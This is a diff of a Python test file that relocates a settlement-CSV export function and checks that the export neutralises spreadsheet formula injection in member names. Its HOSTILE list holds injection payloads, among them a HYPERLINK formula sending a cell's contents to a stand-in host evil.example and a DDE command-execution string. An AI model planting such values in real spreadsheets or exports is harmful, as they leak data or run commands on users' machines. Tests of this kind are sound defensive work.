@@ -7,7 +7,7 @@ import io
 import re
 import zipfile
 
-from qunyun.services import activities, leads, spreadsheets
+from qunyun.services import leads, settlements, spreadsheets
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&B2,"点我")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "小明、=1"]
@@ -55,7 +55,7 @@ def test_refund_list_neutralises_names() -> None:
     plan = {"code": "X1", "rows": [{"number": 7, "name": HOSTILE[0], "deposit": 99.0,
                                     "checkins": 5, "percent": 100, "refund": 99.0,
                                     "completed": True}]}
-    text = activities.settlement_csv(plan)
+    text = settlements.settlement_csv(plan)
     assert text.startswith("\ufeff活动,会员编号")
     row = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1]
     assert row[2] == "'" + HOSTILE[0] and row[3] == "99.00"
